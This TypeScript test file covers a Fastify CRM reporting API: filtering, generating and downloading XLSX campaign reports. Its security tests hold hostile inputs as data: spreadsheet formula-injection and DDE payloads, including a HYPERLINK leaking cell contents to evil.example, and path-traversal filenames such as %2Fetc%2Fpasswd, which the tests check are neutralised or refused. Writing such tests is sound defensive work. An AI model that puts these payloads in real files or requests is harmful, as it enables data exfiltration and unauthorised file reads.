import type { FastifyInstance } from 'fastify';
import { describe, expect, it } from 'vitest';
import { XLSX_TYPE } from '../../src/routes/reports/index.js';
import { MAX_IN_PROGRESS_PER_USER } from '../../src/state/reports/reportRequest.js';
/** The report's header row in English (the request asked in no other language). */
const REPORT_COLUMNS = [
  'Campaign',
  'Campaign Status',
  'Occurrence',
  'Customer Name',
  'Phone Number',
  'State',
  'Message ID',
  'Sent At',
  'Delivered At',
  'Read At',
  'Failed At',
];
import { appPerTest } from '../helpers.js';
import {
  campaignWithRecipients,
  cellsOf,
  listReports,
  readWorkbook,
  waitForReport,
  type Headers,
  type ReportJson,
} from '../support/reportFixtures.js';

const start = appPerTest();

/** The campaign engine does not run by itself here (the fixtures step it); the report worker does. */
const setup = () => start({ campaignEngine: false }, ['admin', 'approver', 'marketer', 'dataentry']);

function requestBody(overrides: Record<string, unknown> = {}) {
  return {
    client_id: 'div-marketing',
    campaign_name: 'Report Test Campaign',
    channel_account_id: 1,
    request_status: ['FINISHED'],
    ...overrides,
  };
}

async function requestReport(app: FastifyInstance, headers: Headers, body: unknown) {
  return app.inject({ method: 'POST', url: '/api/reports/request', headers, payload: body as object });
}

async function filter(app: FastifyInstance, headers: Headers, filters: unknown) {
  return app.inject({ method: 'POST', url: '/api/reports/filter', headers, payload: { filters } });
}

function download(app: FastifyInstance, headers: Headers, name: string) {
  return app.inject({ method: 'GET', url: `/download-file/reports/${name}`, headers });
}

const fileName = (report: ReportJson) => (report.file ?? '').split('/').pop() ?? '';

describe('GET /api/reports (seeded)', () => {
  it('lists reports in every stage, newest first; ready ones have a downloadable file, failed ones a reason', async () => {
    const { app, approver } = await setup();
    const reports = await listReports(app, approver);
    expect(reports.length).toBeGreaterThanOrEqual(6);
    const created = reports.map((report) => report.created_at);
    expect(created).toEqual([...created].sort().reverse());
    // The worker may already have moved the seeded in-progress ones on; each of them is somewhere on its way.
    const statuses = new Set(reports.map((report) => report.status));
    expect(statuses).toContain('READY');
    expect(statuses).toContain('FAILED');
    expect(
      reports.every((report) => ['PENDING', 'PROCESSING', 'READY', 'FAILED'].includes(report.status)),
    ).toBe(true);
    for (const report of reports) {
      expect(Object.keys(report)).toEqual(
        expect.arrayContaining([
          'id',
          'campaign_name',
          'client_id',
          'division',
          'channel_name',
          'created_at',
        ]),
      );
      expect(report).not.toHaveProperty('attempts');
      if (report.status === 'READY') {
        expect(report.file).toMatch(/^reports\/report-\d+-[a-z0-9-]+-\d{8}-\d{6}\.xlsx$/);
        expect(report.information).toBeNull();
      } else expect(report.file).toBeNull();
      if (report.status === 'FAILED') expect(report.information).toMatch(/\w+/);
    }
    const ready = reports.filter((report) => report.status === 'READY');
    for (const report of ready) {
      const response = await download(app, approver, fileName(report));
      expect(response.statusCode).toBe(200);
      const sheets = readWorkbook(response.rawPayload);
      expect(sheets.Report?.[0]).toEqual([...REPORT_COLUMNS]);
      expect(sheets.Report?.length).toBe((report.total_rows ?? -1) + 1);
    }
  });

  it('the seeded pending and processing reports are finished by the worker (nothing stays in progress)', async () => {
    const { app, approver } = await setup();
    const inProgress = (await listReports(app, approver)).filter((report) =>
      ['PENDING', 'PROCESSING'].includes(report.status),
    );
    expect(inProgress.length).toBeGreaterThan(0);
    for (const report of inProgress) {
      const done = await waitForReport(app, approver, report.id);
      expect(done.status).toBe('READY');
      expect(done.file).not.toBeNull();
    }
  });

  it('permissions: crm.report.list or crm.report.request to list; no token is a 401', async () => {
    const { app, dataentry, marketer } = await setup();
    const refused = await app.inject({ method: 'GET', url: '/api/reports', headers: dataentry });
    expect(refused.statusCode).toBe(403);
    expect(refused.json().message).toContain('crm.report.list');
    expect((await filter(app, dataentry, [])).statusCode).toBe(403);
    expect((await app.inject({ method: 'GET', url: '/api/reports', headers: marketer })).statusCode).toBe(
      200,
    );
    expect((await app.inject({ method: 'GET', url: '/api/reports' })).statusCode).toBe(401);
  });
});

describe('POST /api/reports/filter', () => {
  it('filters by report_id, campaign_name, client_id and created date; blanks are ignored; newest first', async () => {
    const { app, approver } = await setup();
    const all = await listReports(app, approver);
    const target = all.find((report) => report.campaign_name === 'Feedback Survey Q3');
    if (!target) throw new Error('seed has no Feedback Survey Q3 report');

    const byId = await filter(app, approver, [{ property: 'report_id', value: String(target.id) }]);
    expect(byId.statusCode).toBe(200);
    expect(byId.json().data.map((report: ReportJson) => report.id)).toEqual([target.id]);

    const byName = (
      await filter(app, approver, [{ property: 'campaign_name', value: ' feedback survey q3 ' }])
    ).json().data as ReportJson[];
    expect(byName.length).toBe(all.filter((report) => report.campaign_name === 'Feedback Survey Q3').length);
    expect(byName.length).toBeGreaterThan(1);
    expect(byName.map((report) => report.created_at)).toEqual(
      byName
        .map((report) => report.created_at)
        .sort()
        .reverse(),
    );

    const byDivision = (
      await filter(app, approver, [{ property: 'client_id', value: 'div-consumer-care' }])
    ).json().data as ReportJson[];
    expect(byDivision.length).toBeGreaterThan(0);
    expect(byDivision.every((report) => report.division === 'Consumer Care')).toBe(true);

    const day = target.created_at.slice(0, 10);
    const byDate = (await filter(app, approver, [{ property: 'created_at', value: day }])).json()
      .data as ReportJson[];
    expect(byDate.map((report) => report.id)).toEqual(
      all.filter((report) => report.created_at.startsWith(day)).map((report) => report.id),
    );

    const combined = (
      await filter(app, approver, [
        { property: 'campaign_name', value: 'Feedback Survey Q3' },
        { property: 'report_id', value: String(target.id) },
        { property: 'client_id', value: '   ' },
        { property: 'created_at', value: '' },
      ])
    ).json().data as ReportJson[];
    expect(combined.map((report) => report.id)).toEqual([target.id]);

    const none = (
      await filter(app, approver, [{ property: 'campaign_name', value: 'No Such Campaign' }])
    ).json().data;
    expect(none).toEqual([]);
    const everything = (await filter(app, approver, [])).json().data as ReportJson[];
    expect(everything.map((report) => report.id)).toEqual(all.map((report) => report.id));
  });

  it.each([
    [
      [{ property: 'division', value: 'x' }],
      'Unknown filter property "division" (filters[0]): use one of report_id, campaign_name, client_id, created_at',
    ],
    [[{ property: 'report_id', value: 'abc' }], 'filters[0]: report_id must be a whole number.'],
    [
      [{ property: 'created_at', value: '2024-02-30' }],
      'filters[0]: created_at must be a date as YYYY-MM-DD.',
    ],
    [
      [{ property: 'created_at', value: '11/06/2024' }],
      'filters[0]: created_at must be a date as YYYY-MM-DD.',
    ],
    [[{ property: 'campaign_name', value: { x: 1 } }], 'filters[0].value must be a text or a number.'],
    [['campaign_name'], 'filters[0] must be an object with a property and a value.'],
    ['campaign_name', 'filters must be a list of {property, value}.'],
  ])('a bad filter %j is a 400: %s', async (filters, message) => {
    const { app, approver } = await setup();
    const response = await filter(app, approver, filters);
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe(message);
  });
});

describe('POST /api/reports/request: validation and permissions', () => {
  it.each([
    [{ client_id: undefined }, 'client_id (the division) is required.'],
    [{ client_id: '  ' }, 'client_id (the division) is required.'],
    [{ client_id: 7 }, 'client_id must be a text (a division id).'],
    [
      { client_id: 'div-consumer-care' },
      "client_id 'div-consumer-care' is not one of your divisions (div-marketing).",
    ],
    [{ campaign_name: '' }, 'campaign_name is required.'],
    [{ campaign_name: ['x'] }, 'campaign_name must be a text.'],
    [{ campaign_name: 'x'.repeat(201) }, 'campaign_name must be at most 200 characters.'],
    [{ channel_account_id: undefined }, 'channel_account_id is required.'],
    [{ channel_account_id: null }, 'channel_account_id must be a positive whole number.'],
    [{ channel_account_id: 'one' }, 'channel_account_id must be a positive whole number.'],
    [{ channel_account_id: 0 }, 'channel_account_id must be a positive whole number.'],
    [{ channel_account_id: 99 }, 'Channel account 99 does not exist.'],
    [{ request_status: [] }, 'request_status must be a non-empty list of campaign statuses'],
    [{ request_status: 'FINISHED' }, 'request_status must be a non-empty list of campaign statuses'],
    [
      { request_status: ['FINISHED', 'ARCHIVED'] },
      'request_status contains an unknown campaign status "ARCHIVED"',
    ],
  ])('%j is refused: %s', async (overrides, message) => {
    const { app, marketer } = await setup();
    const before = (await listReports(app, marketer)).length;
    const response = await requestReport(app, marketer, requestBody(overrides));
    expect(response.statusCode).toBe(400);
    expect(response.json().status).not.toBe(1);
    expect(response.json().message).toContain(message);
    expect((await listReports(app, marketer)).length).toBe(before);
  });

  it('reports every problem at once, and refuses a body that is not an object', async () => {
    const { app, marketer } = await setup();
    const response = await requestReport(app, marketer, {});
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual([
      'client_id (the division) is required.',
      'campaign_name is required.',
      'channel_account_id is required.',
      expect.stringContaining('request_status must be a non-empty list'),
    ]);
    const list = await requestReport(app, marketer, [requestBody()]);
    expect(list.statusCode).toBe(400);
    expect(list.json().message).toContain('must be a JSON object');
  });

  it('needs crm.report.request: the approver (list only) and dataentry get a 403', async () => {
    const { app, approver, dataentry } = await setup();
    for (const headers of [approver, dataentry]) {
      const response = await requestReport(app, headers, requestBody());
      expect(response.statusCode).toBe(403);
      expect(response.json().message).toContain('crm.report.request');
    }
  });

  it('one user may have at most MAX_IN_PROGRESS_PER_USER reports in progress (429 beyond)', async () => {
    const { app, marketer, admin } = await setup();
    app.reportWorker.held = true;
    const mine = app.store.state.reports.reports.filter(
      (report) =>
        report.requested_by_username === 'marketer' && ['PENDING', 'PROCESSING'].includes(report.status),
    ).length;
    for (let index = mine; index < MAX_IN_PROGRESS_PER_USER; index += 1) {
      expect((await requestReport(app, marketer, requestBody())).statusCode).toBe(200);
    }
    const refused = await requestReport(app, marketer, requestBody());
    expect(refused.statusCode).toBe(429);
    expect(refused.json().message).toBe(
      `You already have ${MAX_IN_PROGRESS_PER_USER} reports being generated: wait until they are ready.`,
    );
    // Someone else still may.
    expect((await requestReport(app, admin, requestBody())).statusCode).toBe(200);
  });

  it('answers status 1 with the new PENDING report; statuses are accepted in any case, de-duplicated', async () => {
    const { app, marketer } = await setup();
    app.reportWorker.held = true;
    const response = await requestReport(
      app,
      marketer,
      requestBody({ request_status: ['finished', 'FINISHED', ' done '], channel_account_id: '1' }),
    );
    expect(response.statusCode).toBe(200);
    const body = response.json();
    expect(body.status).toBe(1);
    expect(body.data).toMatchObject({
      campaign_name: 'Report Test Campaign',
      client_id: 'div-marketing',
      division: 'Marketing',
      channel_account_id: 1,
      channel_name: 'whatsapp-business',
      request_status: ['DONE', 'FINISHED'],
      status: 'PENDING',
      file: null,
      information: null,
    });
    const listed = await listReports(app, marketer);
    expect(listed[0]?.id).toBe(body.data.id);
  });
});

describe('report generation', () => {
  it('request → pending → processing → ready → download: one row per recipient of the matching campaigns', async () => {
    const { app, marketer, approver } = await setup();
    const campaignId = await campaignWithRecipients(
      app,
      { creator: marketer, approver },
      { name: 'Report Test Campaign', customers: [{}, {}, {}, {}, {}] },
    );
    // A second campaign with the same name, still waiting for approval, stays out of a FINISHED report.
    await campaignWithRecipients(
      app,
      { creator: marketer, approver },
      { name: 'Report Test Campaign', customers: [{}], until: 'WAITING APPROVAL' },
    );
    const worker = app.reportWorker;
    worker.held = true;
    const response = await requestReport(app, marketer, requestBody());
    expect(response.statusCode).toBe(200);
    const id = response.json().data.id as number;

    // Held: it stays pending; released, it moves through processing to ready.
    await new Promise((resolve) => setTimeout(resolve, 150));
    expect((await listReports(app, marketer)).find((report) => report.id === id)?.status).toBe('PENDING');
    worker.held = false;
    const processing = await waitForReport(app, marketer, id, ['PROCESSING', 'READY']);
    expect(['PROCESSING', 'READY']).toContain(processing.status);
    const ready = await waitForReport(app, marketer, id);
    expect(ready.status).toBe('READY');
    expect(ready.total_rows).toBe(5);
    expect(ready.information).toBeNull();

    const file = await download(app, marketer, fileName(ready));
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe(XLSX_TYPE);
    expect(file.headers['content-disposition']).toBe(`attachment; filename="${fileName(ready)}"`);
    expect(Number(file.headers['content-length'])).toBe(file.rawPayload.length);

    const recipients = (
      await app.inject({ method: 'GET', url: `/api/campaigns/${campaignId}/customers`, headers: marketer })
    ).json().data.customer_campaigns as {
      message_id: string;
      sent_at: string | null;
      read_at: string | null;
      customer_detail: { phone_number: string; state: string; name: string };
    }[];
    const sheets = readWorkbook(file.rawPayload);
    const [header, ...rows] = sheets.Report ?? [];
    expect(header).toEqual([...REPORT_COLUMNS]);
    expect(rows).toHaveLength(5);
    const utc = (iso: string | null) => (iso ? iso.slice(0, 19).replace('T', ' ') : '');
    expect(rows).toEqual(
      recipients.map((recipient) => [
        'Report Test Campaign',
        'finished',
        '1',
        recipient.customer_detail.name,
        recipient.customer_detail.phone_number,
        recipient.customer_detail.state,
        recipient.message_id,
        utc(recipient.sent_at),
        expect.any(String),
        utc(recipient.read_at),
        expect.any(String),
      ]),
    );
    expect(rows.every((row) => /^wamid\./.test(row[6] ?? ''))).toBe(true);
    expect(sheets.Request).toContainEqual(['Division', 'Marketing']);
    expect(sheets.Request).toContainEqual(['Campaign Status', 'finished']);
    // Every cell is a text cell: phone numbers keep their digits, nothing is a number or a date.
    expect(cellsOf(file.rawPayload, 'Report').every((cell) => cell.t === 's')).toBe(true);
  });

  it('neutralises formula-like values: a campaign or customer named =HYPERLINK(...) never becomes a formula', async () => {
    const { app, marketer, approver } = await setup();
    const evilName = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")';
    const customers = [
      { customer_name: '=HYPERLINK("http://evil.example","open")' },
      { customer_name: "+cmd|' /C calc'!A0" },
      { customer_name: '-2+3' },
      { customer_name: "@SUM(1+1)*cmd|' /C calc'!A0" },
      { customer_name: '\t=1+1' },
      { customer_name: 'Plain Name' },
    ];
    await campaignWithRecipients(app, { creator: marketer, approver }, { name: evilName, customers });
    const response = await requestReport(app, marketer, requestBody({ campaign_name: evilName }));
    expect(response.statusCode).toBe(200);
    const ready = await waitForReport(app, marketer, response.json().data.id);
    expect(ready.status).toBe('READY');
    expect(fileName(ready)).toMatch(/^report-\d+-hyperlink-http-evil-example[a-z0-9-]*-\d{8}-\d{6}\.xlsx$/);

    const file = await download(app, marketer, fileName(ready));
    const cells = [...cellsOf(file.rawPayload, 'Report'), ...cellsOf(file.rawPayload, 'Request')];
    expect(cells.filter((cell) => cell.f !== undefined)).toEqual([]);
    const texts = cells.map((cell) => String(cell.v));
    expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
    const rows = readWorkbook(file.rawPayload).Report?.slice(1) ?? [];
    expect(rows.map((row) => row[0])).toEqual(Array(6).fill(`'${evilName}`));
    expect(rows.map((row) => row[3]).sort()).toEqual(
      [
        `'=HYPERLINK("http://evil.example","open")`,
        `'+cmd|' /C calc'!A0`,
        `'-2+3`,
        `'@SUM(1+1)*cmd|' /C calc'!A0`,
        `'\t=1+1`,
        'Plain Name',
      ].sort(),
    );
    expect(readWorkbook(file.rawPayload).Request).toContainEqual(['Campaign Name', `'${evilName}`]);
  });

  it('no matching campaign: the report fails with a reason that says what did not match', async () => {
    const { app, marketer } = await setup();
    const response = await requestReport(
      app,
      marketer,
      requestBody({ campaign_name: 'No Such Campaign', request_status: ['FINISHED', 'DONE'] }),
    );
    const failed = await waitForReport(app, marketer, response.json().data.id);
    expect(failed.status).toBe('FAILED');
    expect(failed.file).toBeNull();
    expect(failed.information).toBe(
      "No campaign named 'No Such Campaign' on the channel account Electrolux_M2M of the division Marketing has one of the statuses done, finished.",
    );
  });

  it('matching campaigns without recipients give a ready report with the header row only', async () => {
    const { app, marketer, approver } = await setup();
    await campaignWithRecipients(
      app,
      { creator: marketer, approver },
      { name: 'Waiting Report Campaign', customers: [{}, {}], until: 'WAITING APPROVAL' },
    );
    const response = await requestReport(
      app,
      marketer,
      requestBody({ campaign_name: 'Waiting Report Campaign', request_status: ['WAITING APPROVAL'] }),
    );
    const ready = await waitForReport(app, marketer, response.json().data.id);
    expect(ready.status).toBe('READY');
    // A campaign waiting for approval has its recipients queued: they are listed, not yet sent.
    const rows = readWorkbook((await download(app, marketer, fileName(ready))).rawPayload).Report ?? [];
    expect(rows[0]).toEqual([...REPORT_COLUMNS]);
    expect(rows.slice(1).every((row) => row[5] === 'queued' && row[7] === '')).toBe(true);
    expect(ready.total_rows).toBe(rows.length - 1);
  });

  it('a campaign whose status moves on before generation still belongs to the report (matched at request time)', async () => {
    const { app, marketer, approver } = await setup();
    const id = await campaignWithRecipients(
      app,
      { creator: marketer, approver },
      { name: 'Moving Report Campaign', customers: [{}, {}, {}], until: 'WAITING APPROVAL' },
    );
    // Generation held: the report waits in the queue while the campaign moves on.
    app.reportWorker.held = true;
    const response = await requestReport(
      app,
      marketer,
      requestBody({ campaign_name: 'Moving Report Campaign', request_status: ['WAITING APPROVAL'] }),
    );
    expect(response.json().status).toBe(1);
    const approved = await app.inject({
      method: 'POST',
      url: '/api/campaigns/state',
      headers: approver,
      payload: { state: 'ACCEPTED', campaign_id: id },
    });
    expect(approved.statusCode).toBe(200);
    app.reportWorker.held = false;
    const ready = await waitForReport(app, marketer, response.json().data.id);
    expect(ready.status, ready.information ?? '').toBe('READY');
    const rows = readWorkbook((await download(app, marketer, fileName(ready))).rawPayload).Report ?? [];
    // Its rows, with the status it has now.
    expect(rows.slice(1)).toHaveLength(3);
    expect(rows.slice(1).every((row) => row[1] === 'on going')).toBe(true);
  });

  it('a campaign that moved on while the request was being made (the dialog open) is still in its report', async () => {
    const { app, marketer, approver } = await setup();
    const id = await campaignWithRecipients(
      app,
      { creator: marketer, approver },
      { name: 'Moved On Campaign', customers: [{}, {}], until: 'WAITING APPROVAL' },
    );
    // The marketer chose 'waiting approval' (what the dialog showed); the approver acts before Send.
    await app.inject({
      method: 'POST',
      url: '/api/campaigns/state',
      headers: approver,
      payload: { state: 'ACCEPTED', campaign_id: id },
    });
    const response = await requestReport(
      app,
      marketer,
      requestBody({ campaign_name: 'Moved On Campaign', request_status: ['WAITING APPROVAL'] }),
    );
    const ready = await waitForReport(app, marketer, response.json().data.id);
    expect(ready.status, ready.information ?? '').toBe('READY');
    const rows = readWorkbook((await download(app, marketer, fileName(ready))).rawPayload).Report ?? [];
    expect(rows.slice(1)).toHaveLength(2);
    expect(rows.slice(1).every((row) => row[1] === 'on going')).toBe(true);
  });

  it('a campaign that never had a requested status: the report fails saying which status it has', async () => {
    const { app, marketer, approver } = await setup();
    await campaignWithRecipients(
      app,
      { creator: marketer, approver },
      { name: 'Never Finished Campaign', customers: [{}], until: 'WAITING APPROVAL' },
    );
    const response = await requestReport(
      app,
      marketer,
      requestBody({ campaign_name: 'Never Finished Campaign', request_status: ['FINISHED', 'DONE'] }),
    );
    const failed = await waitForReport(app, marketer, response.json().data.id);
    expect(failed.status).toBe('FAILED');
    expect(failed.information).toBe(
      "The campaign 'Never Finished Campaign' is waiting approval, and has not been done or finished: request the report again with the status it has.",
    );
  });

  it('a file that cannot be written fails the report with the reason; nothing is left in progress', async () => {
    const { app, marketer, approver } = await setup();
    await campaignWithRecipients(
      app,
      { creator: marketer, approver },
      { name: 'Report Test Campaign', customers: [{}, {}] },
    );
    // The reports folder becomes a plain file: mkdir and the write fail. The seeded in-progress reports are
    // held meanwhile, so that none of them recreates the folder between the removal and the write.
    const { rm, writeFile } = await import('node:fs/promises');
    const path = await import('node:path');
    const folder = path.join(app.config.dataDir, 'reports');
    const worker = app.reportWorker;
    worker.held = true;
    await app.scheduler.idle();
    await rm(folder, { recursive: true, force: true });
    await writeFile(folder, 'not a folder');
    worker.held = false;
    const response = await requestReport(app, marketer, requestBody());
    const failed = await waitForReport(app, marketer, response.json().data.id);
    expect(failed.status).toBe('FAILED');
    expect(failed.information).toMatch(
      /^The report file could not be written \((EEXIST|ENOTDIR)\)\. Request it again\.$/,
    );
    expect(app.reportWorker.active).not.toContain(failed.id);
  });

  it('a reset cancels running generations and the seeded in-progress reports start again', async () => {
    const { app, marketer } = await setup();
    const worker = app.reportWorker;
    worker.held = true;
    const response = await requestReport(app, marketer, requestBody());
    const id = response.json().data.id as number;
    expect(worker.active).toContain(id);
    await app.resetState();
    expect(worker.held).toBe(false);
    const seededInProgress = app.store.state.reports.reports
      .filter((report) => ['PENDING', 'PROCESSING'].includes(report.status))
      .map((report) => report.id);
    expect(worker.active.sort()).toEqual(seededInProgress.sort());
    expect(
      (await listReports(app, marketer)).some((report) => report.campaign_name === 'Report Test Campaign'),
    ).toBe(false);
  });
});

describe('GET /download-file/reports/{filename}', () => {
  it('serves only files of ready reports from the reports folder: traversal and unknown names are 404s', async () => {
    const { app, approver } = await setup();
    const ready = (await listReports(app, approver)).find((report) => report.status === 'READY');
    if (!ready) throw new Error('no ready report in the seed');
    const { writeFile } = await import('node:fs/promises');
    const path = await import('node:path');
    // A real file in the reports folder that no report refers to, and one beside it.
    await writeFile(path.join(app.config.dataDir, 'reports', 'report-999-stray.xlsx'), 'stray');
    await writeFile(path.join(app.config.dataDir, 'secret.xlsx'), 'secret');
    const names = [
      'report-999-stray.xlsx',
      'unknown.xlsx',
      '..%2Fsecret.xlsx',
      '..%2F..%2Fstate.json',
      '%2E%2E%2Fsecret.xlsx',
      '..%5Csecret.xlsx',
      '%2Fetc%2Fpasswd',
      encodeURIComponent(path.join(app.config.dataDir, 'secret.xlsx')),
      '%00.xlsx',
      `${fileName(ready)}%00.txt`,
      `.${fileName(ready)}`,
      fileName(ready).replace('.xlsx', '.XLSX'),
    ];
    for (const name of names) {
      const response = await download(app, approver, name);
      expect(response.statusCode, name).toBe(404);
      expect(response.body).not.toContain('secret');
      expect(response.body).not.toContain('stray');
    }
    // Paths that normalise out of the reports route land on the upload downloads, which refuse a user
    // without an upload module (403) and know no such upload (404): never a file.
    for (const url of [
      '/download-file/reports/..',
      '/download-file/reports/.',
      '/download-file/reports/../secret.xlsx',
      '/download-file/reports/a/../../secret.xlsx',
      '/download-file/reports/',
      '/download-file/secret.xlsx',
    ]) {
      const response = await app.inject({ method: 'GET', url, headers: approver });
      expect([403, 404], url).toContain(response.statusCode);
      expect(response.body).not.toContain('secret"');
      expect(response.body).not.toContain('stray');
    }
    expect((await download(app, approver, fileName(ready))).statusCode).toBe(200);
  });

  it('a ready report whose file went missing is a 404 that says so', async () => {
    const { app, approver } = await setup();
    const ready = (await listReports(app, approver)).find((report) => report.status === 'READY');
    if (!ready) throw new Error('no ready report in the seed');
    const { rm } = await import('node:fs/promises');
    const path = await import('node:path');
    await rm(path.join(app.config.dataDir, 'reports', fileName(ready)));
    const response = await download(app, approver, fileName(ready));
    expect(response.statusCode).toBe(404);
    expect(response.json().message).toBe('The report file is no longer available: request the report again.');
  });

  it('needs crm.report.list and a token', async () => {
    const { app, dataentry } = await setup();
    const ready = app.store.state.reports.reports.find((report) => report.status === 'READY');
    const name = (ready?.file ?? '').split('/').pop() ?? '';
    const refused = await download(app, dataentry, name);
    expect(refused.statusCode).toBe(403);
    expect(refused.json().message).toContain('crm.report.list');
    expect((await app.inject({ method: 'GET', url: `/download-file/reports/${name}` })).statusCode).toBe(401);
  });
});
